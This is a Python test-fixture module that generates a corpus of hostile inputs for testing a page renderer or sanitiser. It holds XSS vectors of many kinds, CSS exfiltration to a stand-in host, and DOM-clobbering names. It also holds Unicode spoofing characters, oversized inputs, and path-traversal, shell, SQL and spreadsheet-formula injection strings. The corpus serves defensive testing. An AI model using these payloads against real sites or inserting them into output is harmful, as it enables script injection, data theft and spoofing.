r"""Two hundred and more texts that a model or a file could bring to harm a page, by family, each different.

What would run calls `hit('...')`, which a test's page has; what would load asks for evil.invalid, which nothing has.
"""

from collections.abc import Iterator

from judgebench.tables.records import valid_text

_ELEMENTS = (
    *("a", "address", "audio", "body", "button", "canvas", "details", "dialog", "div", "embed", "form", "frameset"),
    *("h1", "html", "iframe", "img", "input", "isindex", "keygen", "label", "link", "main", "marquee", "menu"),
    *("meter", "object", "picture", "portal", "progress", "select", "source", "span", "style", "svg", "table", "td"),
    *("textarea", "track", "video"),
)
_EVENTS = (
    *("onload", "onerror", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter"),
    *("onbeforetoggle", "oncontentvisibilityautostatechange", "onscrollend", "onwheel"),
)
_SCRIPTS = (
    "<script>{}</script>",
    "<SCRIPT>{}</SCRIPT>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script\n>{}</script\n>",
    "<script/x>{}</script>",
    "<script type=module>{}</script>",
    "<script src=data:text/javascript,{}></script>",
    "<script src=https://evil.invalid/x.js></script>{}",
    "\x3cscript\x3e{}\x3c/script\x3e\x00",
    "<\x00script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "<?xml version='1.0'?><script>{}</script>",
    "<title></title><script>{}</script>",
    "</textarea></title></style></noscript></template><script>{}</script>",
    "`<script>{}</script>",
    "    <script>{}</script>\n\n\t<script>{}</script>",
    "```html\n<script>{}</script>\n```",
    "~~~ <script>{}</script>\nx\n~~~",
    '```"><script>{}</script>\nx\n```',
    "| <script>{}</script> |\n|---|\n| <script>{}</script> |",
    '[x]: <script>{}</script> "<script>{}</script>"\n[x]',
    "\\<script>{}\\</script>",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
)
_LINKS = (
    "[x](javascript:{})",
    "[x](JaVaScRiPt:{})",
    "[x](java\nscript:{})",
    "[x](<java\tscript:{}>)",
    "[x](\x01javascript:{})",
    "[x](&#106;avascript:{})",
    "[x](&#x6A&#x61&#x76&#x61script:{})",
    "[x](javascript&colon;{})",
    "[x](javascript&#58;{})",
    "[x](java&Tab;script:{})",
    "[x](%6Aavascript:{})",
    "[x](vbscript:{})",
    "[x](data:text/html,<script>{}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg onload={}>)",
    "[x](blob:https://evil.invalid/1)",
    "[x](filesystem:https://evil.invalid/1)",
    "[x](view-source:javascript:{})",
    "[x](feed:javascript:{})",
    "[x](https:javascript:{})",
    "[x](//evil.invalid/{})",
    "[x](\\\\evil.invalid\\{})",
    "[x](../../../etc/passwd)",
    "[x](file:///etc/passwd)",
    '[x](https://evil.invalid/"onmouseover={})',
    "[x](https://evil.invalid 'x\" onmouseover={} y=')",
    "[x](mailto:a@evil.invalid?subject=<script>{}</script>)",
    "<javascript:{}>",
    "<data:text/html,{}>",
    '<https://evil.invalid/"onclick={}>',
    "![x](javascript:{})",
    "![x](https://evil.invalid/pixel.png?{})",
    "[![x](https://evil.invalid/i.png)](javascript:{})",
    "<a href=javascript:{}>x</a>",
    '<a href=" &#14; javascript:{}">x</a>',
    "<a ping=https://evil.invalid/ href=https://evil.invalid/>x</a>",
    "[x][y]\n\n[y]: javascript:{}",
    "https://evil.invalid/auto www.evil.invalid mailto:evil@evil.invalid",
)
_MUTATED = (
    "<svg><style><img src=x onerror={}></style></svg>",
    "<svg><script href=data:,{} /></svg>",
    "<svg><a xlink:href=javascript:{}><text y=20>x</text></a></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload={}>#x"/></svg>',
    "<svg><animate onbegin={} attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to=javascript:{}></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{}</script>'></iframe></foreignObject></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror={}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={}&gt;">',
    '<math><mi xlink:href="javascript:{}">x</mi></math>',
    "<math><annotation-xml encoding=text/html><img src=x onerror={}></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<template><script>{}</script></template>",
    "<template shadowrootmode=open><script>{}</script></template>",
    '<textarea><p title="</textarea><img src=x onerror={}>">',
    '<xmp><p title="</xmp><img src=x onerror={}>">',
    "<listing>&lt;img src=x onerror={}&gt;</listing>",
    "<plaintext><img src=x onerror={}>",
    "<table><td><svg><desc><td><img src=x onerror={}>",
    "<select><template><img src=x onerror={}></template></select>",
    "<img src=x` `<script>{}</script>` `>",
    '<x style="behavior:url(#default#time2)" onbegin={}>',
    '<p id="<!--"><img src=x onerror={}>--></p>',
    "--><img src=x onerror={}><!--",
    "]]><img src=x onerror={}>",
    "*/</style><img src=x onerror={}>",
    "');{};//\");{};//`);{};//",
    "</script><script>{}</script>",
    "\u2028{}\u2029{}//\u2028",
    '\\"});{};({"a":"',
    "${{}} {{ {} }} {% raw %}{{ {} }} {# x #} <%= {} %> #set($x={})",
    "{{ self.__init__.__globals__ }}{% include 'base.html' %}{}",
    "<base href=https://evil.invalid/><meta http-equiv=refresh content='0;url=https://evil.invalid/'>{}",
    "<link rel=stylesheet href=https://evil.invalid/x.css><link rel=dns-prefetch href=//evil.invalid>{}",
    "<link rel=preconnect href=https://evil.invalid><link rel=modulepreload href=https://evil.invalid/m.js>{}",
    "<form action=https://evil.invalid/ id=search><input name=all><button formaction=javascript:{}>x</button></form>",
    '<iframe srcdoc="<script>{}</script>"></iframe><object data=javascript:{}></object><embed src=javascript:{}>',
)
_STYLES = (
    "<style>*{display:none!important}</style>",
    "</style><style>@import 'https://evil.invalid/x.css';</style>",
    '<div style="position:fixed;inset:0;z-index:99999;background:red">covered</div>',
    '<p style="background:url(https://evil.invalid/b.png)">styled</p>',
    "<style>input[value^=a]{background:url(https://evil.invalid/?a)}</style>",
    '<div class="skip top bottom off unseen filters" hidden>classes of ours</div>',
    "```off\nclass=off\n```\n```top skip\nx\n```",
    "<dialog open>a dialog</dialog><div popover=manual>p</div>",
    "<body style=display:none><html style=display:none>",
    "<marquee width=9999 height=9999>wide</marquee><img width=99999 height=99999>",
)
CLOBBERING = (
    *("judgebench", "all", "one", "waiting", "KEYS", "colour", "sides", "chosen", "content", "sanitised", "Plotly"),
    *("document", "body", "location", "cookie", "getElementById", "querySelector", "currentScript", "defaultView"),
)
_PROTOTYPES = (
    *("__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "valueOf", "__defineGetter__", "null"),
    *("undefined", "NaN", "true", "-0", "[object Object]", "length", "then", "toJSON"),
)


def _marked(forms: tuple[str, ...], family: str) -> Iterator[str]:
    """Each form with a call that says which it is."""
    for number, form in enumerate(forms):
        call = f"hit('{family} {number}')"
        yield form.replace("{}", call)


def _handlers() -> Iterator[str]:
    """A handler on each of 35 elements, with and without quotes, by turns."""
    for number, element in enumerate(_ELEMENTS):
        event = _EVENTS[number % len(_EVENTS)]
        call = f"hit('{event} {element}')"
        value = (f'"{call}"', f"'{call.replace(chr(39), '`')}'", call.replace("'", "`"))[number % 3]
        yield f"<{element}/src=x href=x autofocus tabindex=1 open {event}={value}>words</{element}>"


def _characters() -> Iterator[str]:
    """Characters that turn, hide, join or pile up, and some that are none."""
    yield "\u202egnp.txt\u202c and \u202a\u202b\u202d\u202e never closed"
    yield "\u2066\u2067\u2068 isolates that are never closed \u202e" * 20
    yield "\u2069\u202c\u2069\u202c closes what it hasn't opened"
    yield "\u200f\u200e\u061c marks; שלום עולם; مرحبا بالعالم; \u202eabc"
    yield "ze\u200bro\u200cwi\u200ddth\u2060\ufeff\u00ad\u034f\u180e"
    yield "p\u0430ypal.com g\u043e\u043egle \u0391\u0392\u0395 ｆｕｌｌ"
    yield "".join(letter + "".join(map(chr, range(0x300, 0x340))) for letter in "Zalgo") * 5
    yield "a" + "\u0301" * 5_000
    yield "\ud800 alone \udfff\udc00\ud83d and \ud83d\ud83d\ude00"
    yield "\udce2\udc28\udca1 \udcff\udcfe as bytes that were no UTF-8 arrive"
    yield "Ã¢â‚¬â„¢ Ã¼ \ufffd\ufffd \xc0\xaf \xed\xa0\x80 \xf4\x90\x80\x80"
    yield "\x00\x00nul\x00" + "".join(map(chr, range(1, 32))) + "\x7f" + "".join(map(chr, range(0x80, 0xA0)))
    yield "\x1b[31mred\x1b[0m \x1b]8;;https://evil.invalid\x07x\x1b]8;;\x07 \x9b2J \x08\x08\x08"
    yield "line\u2028separator\u2029paragraph\x85next\x0bvertical\x0cform\r\rcarriage"
    yield "\ufffe\uffff\U0001fffe\U0010ffff\ufdd0 no characters"
    yield "👨‍👩‍👧‍👦👩🏽‍🚀🏴‍☠️🏳️‍🌈" * 60
    yield "👍" + "\u200d👍" * 2_000
    yield "🇩🇪" * 500 + "\U000e0041\U000e0042\U000e007f tags"
    yield "ﷺ﷽𒐫꧅⸻" * 50
    yield "\u3164\u115f\u2800 \u00a0\u2003\u3000 blanks"
    yield "\ufff9hidden\ufffaannotation\ufffb"
    yield "ᚠ\U0001d504\U0001d4d0\u0488\u0489" * 200


def _sizes() -> Iterator[str]:
    """Long lines, deep nests and wide tables."""
    yield "x" * 1_000_000
    yield "word " * 200_000
    yield "https://evil.invalid/" + "y" * 100_000
    yield "字" * 30_000
    yield "\u00a0" * 20_000 + "end"
    yield "> " * 10_000 + "deep"
    yield ">" * 10_000
    yield "- " * 10_000 + "deep"
    yield "1. " * 8_000 + "deep"
    yield "\n".join(" " * 2 * level + "- x" for level in range(150))
    yield "[" * 10_000 + "x" + "]" * 10_000
    yield "[x](" * 6_000
    yield "![" * 10_000
    yield "<" * 10_000
    yield "<a " * 8_000
    yield "*" * 20_000
    yield "*a **b " * 3_000
    yield "**_a_**" * 3_000
    yield "_" * 10_000 + "a" + "_" * 10_000
    yield "~~" * 10_000
    yield "`" * 12_000
    yield "".join("`" * length + "a" for length in range(1, 200))
    yield "&" * 20_000
    yield "&amp;" * 4_000
    yield "\\" * 20_000
    yield "(" * 20_000
    yield "#" * 6 + " " + "heading" * 2_000
    yield "# h\n" * 4_000
    yield "---\n" * 4_000
    yield "| " * 3_000 + "\n" + "|-" * 3_000 + "|\n" + "| y" * 3_000
    yield "|a|\n|-|\n" + "|b|\n" * 4_000
    yield "| " + "z" * 9_000 + " | b |\n|---|---|\n| c | " + "w" * 9_000 + " |"
    yield "```python\n" + "x = 1; " * 3_000
    yield "```\n" * 4_001
    yield "~~~~~~" + "~" * 10_000
    yield "```" + "l" * 10_000 + "\nx\n```"
    yield "\n" * 20_000 + "end"
    yield "\t" * 10_000 + "code"
    yield "a\n" * 10_000
    yield "\r\n" * 5_000 + "end"
    yield "99999999999999. a list\n" * 100 + "999999999. start"
    yield "<div>" * 4_000
    yield "[a]: b\n" * 3_000
    yield "a  \n" * 5_000
    yield "    " + "code " * 4_000
    yield "```js\n" + "/*" * 8_000
    yield "```js\n" + '"' + "\\" * 16_000 + "\n```"
    yield "```html\n" + "<a b='" * 4_000 + "\n```"


def _paths() -> Iterator[str]:
    """What looks like a path, a name of a device, or nothing."""
    yield from ("../../../../etc/passwd", "..\\..\\windows\\win.ini", "C:\\CON", "/dev/null", "~/.ssh/id_rsa")
    yield from ("%2e%2e%2f%00.html", "index.html", "static/app.js", ".", " ", "\n", "-rf", "$(reboot)`reboot`")
    yield from ("'; DROP TABLE reviews; --", "=cmd|' /C calc'!A1", "@SUM(1+1)", "%s%n%x{0}", "\\", "#", "?a=1&b=2")


def families() -> dict[str, tuple[str, ...]]:
    """All of them, by family."""
    return {
        "scripts": tuple(_marked(_SCRIPTS, "script")),
        "handlers": tuple(_handlers()),
        "links": tuple(_marked(_LINKS, "link")),
        "mutated": tuple(_marked(_MUTATED, "mutated")),
        "styles": _STYLES,
        "clobbering": tuple(f"<img id={name} name={name}><form id={name}><a id={name}>{name}" for name in CLOBBERING),
        "characters": tuple(_characters()),
        "sizes": tuple(_sizes()),
        "paths": tuple(_paths()),
    }


def names() -> tuple[str, ...]:
    """Names of models, judges, questions: ones that a script knows, ones that differ by little, and long ones."""
    alike = ("Model", "model", "MODEL", "mode\u0301l", "mod\u00e9l", "model ", " model", "m\u043edel", "model\u200b")
    long = ("n" * 10_000, "wide " * 2_000, "字" * 3_000, "👨‍👩‍👧‍👦" * 300, "\u202e" + "turned" * 50)
    markup = ("</script><script>hit('name')</script>", "<img src=x onerror=hit('name')>", "\"' onfocus=hit('name') x='")
    code = ("{{ 7*7 }}{% raw %}", "javascript:hit('name')", "\u2028\u2029", "a\x00b\x1b[31m", "\ud800", "&lt;b&gt;")
    paths = ("../../etc/passwd", ".", "..", "index", "#left=x&right=y", "%00%2e", "CON", "a/b\\c", "--", " ")
    return (*_PROTOTYPES, *CLOBBERING, *alike, *long, *markup, *code, *paths)


# As rows can hold them: a table with a lone surrogate isn't read, and what imports one replaces it.
TEXTS = tuple(dict.fromkeys(valid_text(text) for family in families().values() for text in family))
NAMES = tuple(dict.fromkeys(map(valid_text, names())))
